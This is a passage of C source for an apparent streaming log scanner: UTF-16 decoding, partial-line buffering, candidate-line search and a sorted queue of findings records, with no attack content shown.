        for (size_t i = (size_t)start; i + 1 < m; i += 2) {
            uint32_t c = be ? (uint32_t)q[i] << 8 | q[i + 1] : (uint32_t)q[i + 1] << 8 | q[i];
            if (c >= 0xD800 && c <= 0xDBFF && i + 3 < m) {
                uint32_t d =
                    be ? (uint32_t)q[i + 2] << 8 | q[i + 3] : (uint32_t)q[i + 3] << 8 | q[i + 2];
                if (d >= 0xDC00 && d <= 0xDFFF) {
                    o += put_utf8(u->out + o, 0x10000 + ((c - 0xD800) << 10) + (d - 0xDC00));
                    i += 2;
                    continue;
                }
            }
            if (c >= 0xD800 && c <= 0xDFFF)
                c = 0xFFFD; /* an unpaired surrogate */
            if (c == 0xFEFF && u->line_off + i == 0)
                continue; /* the byte-order mark */
            o += put_utf8(u->out + o, c);
        }
    } else if (u->outcap < 2) {
        char *b = realloc(u->out, 64);
        if (!b)
            return DEFUSE_ENOMEM;
        u->out = b, u->outcap = 64;
    }
    if (has_nl)
        u->out[o++] = '\n';
    u->len = 0;
    return o ? lscan_feed(u->ls, u->out, o) : 0;
}

static int u16_feed(lscan *s, const char *data, size_t n) {
    u16view *u = s->u16;
    size_t keep = s->o->max_line * 2 + 2;
    if (u->skip_line) {
        const char *nl = memchr(data, '\n', n);
        if (!nl) {
            u->off += n;
            return 0;
        }
        size_t k = (size_t)(nl - data) + 1;
        u->off += k;
        u->line_off = u->off;
        u->skip_line = 0;
        data += k;
        n -= k;
    }
    while (n > 0) {
        const char *nl = memchr(data, '\n', n);
        size_t take = nl ? (size_t)(nl - data) : n;
        size_t room = keep > u->len ? keep - u->len : 0;
        size_t add = take < room ? take : room;
        if (u->len + add > u->cap) {
            size_t cap = u->cap ? u->cap : 4096;
            while (cap < u->len + add)
                cap *= 2;
            char *b = realloc(u->line, cap);
            if (!b)
                return DEFUSE_ENOMEM;
            u->line = b, u->cap = cap;
        }
        if (add) /* (u->line may still be NULL) */
            memcpy(u->line + u->len, data, add);
        u->len += add;
        u->off += take; /* bytes past the kept part are dropped */
        if (!nl)
            break;
        int r = u16_line(s, 1);
        if (r < 0)
            return r;
        u->off++;
        u->line_off = u->off;
        data += take + 1;
        n -= take + 1;
    }
    return 0;
}

static int u16_finish(lscan *s) {
    u16view *u = s->u16;
    int r = 0;
    if (u->len > 0)
        r = u16_line(s, 0);
    if (r == 0)
        r = lscan_finish(u->ls);
    return r;
}

static void queue_sink(void *user, lrec *r) {
    lscan *s = user;
    if (s->qn == s->qcap) {
        size_t cap = s->qcap ? s->qcap * 2 : 64;
        struct qrec *q = realloc(s->q, cap * sizeof *q);
        if (!q) {
            s->out_sink(s->out_user, r); /* out of order rather than lost */
            return;
        }
        s->q = q, s->qcap = cap;
    }
    s->q[s->qn].r = r;
    s->q[s->qn].seq = s->qn;
    s->qn++;
}

static int qrec_cmp(const void *a, const void *b) {
    const struct qrec *x = a, *y = b;
    if (x->r->line != y->r->line)
        return x->r->line < y->r->line ? -1 : 1;
    return x->seq < y->seq ? -1 : x->seq > y->seq;
}

/* Hands the queued records to the caller's sink, sorted by line (stable). */
static void queue_flush(lscan *s) {
    if (!s->qn)
        return;
    qsort(s->q, s->qn, sizeof *s->q, qrec_cmp);
    for (size_t i = 0; i < s->qn; i++)
        s->out_sink(s->out_user, s->q[i].r);
    s->qn = 0;
}

int lscan_enable_u16(lscan *s, int bom) {
    u16view *u = calloc(1, sizeof *u);
    if (!u)
        return DEFUSE_ENOMEM;
    int r = lscan_new(&u->ls, s->o, s->sc, s->year, queue_sink, s);
    if (r < 0) {
        free(u);
        return r;
    }
    u->bom = bom;
    /* Started later than the first byte (lscan_u16_from_here): the view
     * begins with the next whole line, numbered as the byte view does. */
    u->off = u->line_off = s->fed;
    u->ls->line = s->line + (s->carry_len || s->overlong ? 1 : 0);
    u->skip_line = s->carry_len || s->overlong;
    s->u16 = u;
    s->out_sink = s->sink, s->out_user = s->user;
    s->sink = queue_sink, s->user = s;
    return 0;
}

void lscan_watch_nul(lscan *s) {
    s->nul_watch = 1;
}

int lscan_u16_from_here(lscan *s) {
    return s->u16 ? 0 : lscan_enable_u16(s, 0);
}

/* Scans b[0..len), which ends with '\n' (complete lines only).  The
 * newlines between candidates are counted by the candidate search itself
 * (one pass over the text; a second counting pass was ~5% of the CPU time
 * on clean logs).  While a join window is open every line goes to it. */
static int scan_block(lscan *s, const char *b, size_t len) {
    size_t p = 0;
    while (p < len) {
        if (s->jn > 0) {
            const char *le = memchr(b + p, '\n', len - p);
            size_t lend = le ? (size_t)(le - b) : len;
            int r = line_in(s, b + p, lend - p, 0, le != NULL, s->line + 1, 0);
            if (r < 0)
                return r;
            s->line++;
            p = lend + 1;
            continue;
        }
        size_t nl;
        size_t c = defuse__candidate_nl(b + p, len - p, &nl);
        s->line += nl; /* the newlines before the candidate's line */
        if (c >= len - p)
            break;
        size_t cand = p + c;
        const char *ls = cand > p ? memrchr(b + p, '\n', cand - p) : NULL;
        size_t lstart = ls ? (size_t)(ls - b) + 1 : p;
        const char *le = memchr(b + cand, '\n', len - cand);
        size_t lend = le ? (size_t)(le - b) : len;
        int r = line_in(s, b + lstart, lend - lstart, 0, le != NULL, s->line + 1, 1);
        if (r < 0)
            return r;
        s->line++;
        p = lend + 1;
    }
    return 0;
}

/* Appends to the partial line, keeping at most max_line bytes of it. */
static int carry_add(lscan *s, const char *p, size_t n) {
    size_t room = s->o->max_line + 1 > s->carry_len ? s->o->max_line + 1 - s->carry_len : 0;
    if (n > room) {
        n = room;
        s->overlong = 1; /* keeps max_line+1 bytes so scan_line sees it is long */
    }
    if (s->carry_len + n > s->carry_cap) {
        size_t cap = s->carry_cap ? s->carry_cap : 4096;
        while (cap < s->carry_len + n)
            cap *= 2;
        char *c = realloc(s->carry, cap);
        if (!c)
            return DEFUSE_ENOMEM;
        s->carry = c, s->carry_cap = cap;
    }
    memcpy(s->carry + s->carry_len, p, n);
    s->carry_len += n;
    return 0;
}

static int flush_carry(lscan *s, int has_nl) {
    int r = line_in(s, s->carry, s->carry_len, s->overlong, has_nl, s->line + 1, 0);
    s->carry_len = 0;
    s->overlong = 0;
    return r;
}

static int u16_feed(lscan *s, const char *data, size_t n);
static int u16_finish(lscan *s);

static int feed(lscan *s, const char *data, size_t n);

int lscan_feed(lscan *s, const char *data, size_t n) {
    int r = feed(s, data, n);
    queue_flush(s);
    return r;
}

static int feed(lscan *s, const char *data, size_t n) {
    size_t pos = 0;
    int r;
    /* A UTF-16 region after a NUL-free start (read path only: a memchr()
     * over data just copied; mapped windows are sampled by the caller). */
    if (s->nul_watch && !s->u16 && memchr(data, '\0', n) && (r = lscan_enable_u16(s, 0)) < 0)
        return r;
    if (s->u16 && (r = u16_feed(s, data, n)) < 0)
        return r;
    s->fed += n;
    if (s->carry_len || s->overlong) {
        const char *nl = memchr(data, '\n', n);
        size_t take = nl ? (size_t)(nl - data) : n;
        if ((r = carry_add(s, data, take)) < 0)
            return r;
        if (!nl)
            return 0;
        if ((r = flush_carry(s, 1)) < 0)
            return r;
        s->line++;
        pos = take + 1;
    }
    if (pos >= n)
        return 0;
    const char *last = memrchr(data + pos, '\n', n - pos);
    size_t end = last ? (size_t)(last - data) + 1 : pos;
    if (end > pos && (r = scan_block(s, data + pos, end - pos)) < 0)
        return r;
    if (end < n && (r = carry_add(s, data + end, n - end)) < 0)
        return r;
    return 0;
}

int lscan_finish(lscan *s) {
    int r = 0;
    if (s->carry_len || s->overlong) {
        r = flush_carry(s, 0);
        s->line++;
    }
    if (r == 0)
        r = window_force(s);
    if (r == 0 && s->u16)
        r = u16_finish(s);
    queue_flush(s);
    return r;
}

int lscan_joining(const lscan *s) {
    return s->jn > 0;
}

int lscan_join_flush(lscan *s) {
    int r = window_force(s);
    queue_flush(s);
    return r;
}

int lscan_tail(lscan *s, const char *data, size_t n, int at_eof) {
    if (s->jn == 0)
        return 0;
    s->tail_line = s->line;
    uint64_t lineno = s->line;
    size_t p = 0;
    int r = 0;
    while (r == 0 && p < n && s->jn > 0) {
        const char *le = memchr(data + p, '\n', n - p);
        size_t lend = le ? (size_t)(le - data) : n;
        if (!le && !at_eof)
            break; /* cut off by the caller: past the window's bound anyway */
        r = line_in(s, data + p, lend - p, 0, le != NULL, ++lineno, 0);
        p = lend + 1;
    }
    if (r == 0)
        r = window_force(s);
    queue_flush(s);
    return r;
}

uint64_t lscan_lines(const lscan *s) { return s->line; }
uint64_t lscan_findings(const lscan *s) {
    return s->nfind + (s->u16 ? lscan_findings(s->u16->ls) : 0);
}

int lscan_scanner_new(defuse_scanner **out, const lscan_opts *o) {
    defuse_limits lim;
    defuse_limits_default(&lim);
    lim.max_input = o->max_line; /* what --max-line promises is examined */
    return defuse_scanner_new(out, &lim);
}

int lscan_new(lscan **out, const lscan_opts *o, defuse_scanner *sc, int default_year,
              lrec_sink sink, void *user) {
    lscan *s = calloc(1, sizeof *s);
    if (!s)
        return DEFUSE_ENOMEM;
    if (sc) {
        s->sc = sc;
    } else {
        int r = lscan_scanner_new(&s->sc, o);
        if (r < 0) {
            free(s);
            return r;
        }
        s->own_sc = 1;
    }
    s->o = o;
    s->year = default_year;
    s->sink = sink;
    s->user = user;
    *out = s;
    return 0;
}

void lscan_free(lscan *s) {
    if (!s)
        return;
    if (s->own_sc)
        defuse_scanner_free(s->sc);
    if (s->u16) {
        lscan_free(s->u16->ls);
        free(s->u16->line);
        free(s->u16->out);
        free(s->u16);
    }
    free(s->carry);
    free(s->conv);
    for (size_t i = 0; i < s->qn; i++)
        lrec_free(s->q[i].r);
    free(s->q);
    free(s->seen);
    free(s->jbuf);
    free(s->jtmp);
    free(s);
}
